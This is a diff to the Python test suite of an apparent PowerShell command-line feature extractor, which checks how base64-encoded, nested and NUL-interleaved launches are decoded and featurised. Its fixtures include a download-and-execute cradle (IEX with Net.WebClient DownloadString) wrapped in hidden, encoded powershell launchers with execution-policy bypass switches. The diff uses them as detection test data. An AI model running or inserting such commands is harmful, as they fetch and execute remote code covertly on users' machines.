@@ -129,7 +129,8 @@ def test_nul_interleaved_text_reads_like_its_clean_form(extractor: PowerShellExt
     encoded, gets the features of the script itself."""
     script = "function global:Get-LoggedOnUser { Get-CimInstance Win32_LoggedOnUser }"
     interleaved = "".join(f"{c}\x00" for c in script)
-    encoded = "powershell -enc " + base64.b64encode(interleaved.encode("utf-16-le")).decode()
+    payload = base64.b64encode(interleaved.encode("utf-16-le")).decode()
+    encoded = f"powershell -w hidden -enc {payload}"
     assert (
         extractor.normalize([interleaved]).to_pylist() == extractor.normalize([script]).to_pylist()
     )
@@ -141,8 +142,9 @@ def test_nul_interleaved_text_reads_like_its_clean_form(extractor: PowerShellExt
 
 def test_nested_encoding_is_unwrapped(extractor: PowerShellExtractor) -> None:
     inner = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
-    once = "powershell -enc " + base64.b64encode(inner.encode("utf-16-le")).decode()
-    twice = "powershell -e " + base64.b64encode(once.encode("utf-16-le")).decode()
+    # -w hidden keeps each launcher as evidence (an ordinary one is unwrapped instead)
+    once = "powershell -w hidden -enc " + base64.b64encode(inner.encode("utf-16-le")).decode()
+    twice = "powershell -w hidden -e " + base64.b64encode(once.encode("utf-16-le")).decode()
     analysis = extractor.analyze([twice])
     assert analysis.layers[0] == 2
     assert "downloadstring" in extractor.indicators([twice]).to_pylist()[0]
@@ -224,15 +226,40 @@ mostly_ascii_lines = command_lines.filter(lambda s: sum(c.isascii() for c in s) 
 @given(
     mostly_ascii_lines,
     st.sampled_from(["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-encodedc"]),
+    st.sampled_from(
+        [
+            "powershell",
+            "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass",
+            r'"C:\Program Files\PowerShell\7\pwsh.exe" -nol -nop -ep:RemoteSigned',
+            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -InputFormat None",
+        ]
+    ),
 )
-def test_encoded_command_has_the_features_of_its_decoded_form(line: str, flag: str) -> None:
-    """The decoded script drives the features; the launcher adds only its switches.
+def test_an_ordinary_encoded_launch_has_exactly_the_features_of_its_script(
+    line: str, flag: str, launcher: str
+) -> None:
+    """Re-launched with switches that change nothing about what runs, a script is the script.
 
     Scripts are mostly ASCII; see normalize._as_text for non-Latin-only payloads.
     """
     extractor = PowerShellExtractor()
+    encoded = f"{launcher} {flag} " + base64.b64encode(line.encode("utf-16-le")).decode()
+    np.testing.assert_array_equal(
+        extractor.transform([encoded]).values, extractor.transform([line]).values
+    )
+
+
+@PROPERTY
+@given(mostly_ascii_lines, st.sampled_from(["-w hidden", "-NoExit", "-Version 2", "-sta"]))
+def test_a_launch_with_telling_switches_keeps_them_beside_its_script(
+    line: str, switch: str
+) -> None:
+    """Any other switch keeps the launch as evidence: the decoded script drives the content
+    features and the launcher adds its switches, its executable and one decoded layer."""
+    extractor = PowerShellExtractor()
     names = extractor.spec.names
-    encoded = f"powershell {flag} " + base64.b64encode(line.encode("utf-16-le")).decode()
+    payload = base64.b64encode(line.encode("utf-16-le")).decode()
+    encoded = f"powershell {switch} -enc {payload}"
     a = extractor.transform([encoded]).values[0]
     b = extractor.transform([line]).values[0]
     launcher = {"launch_flags"}
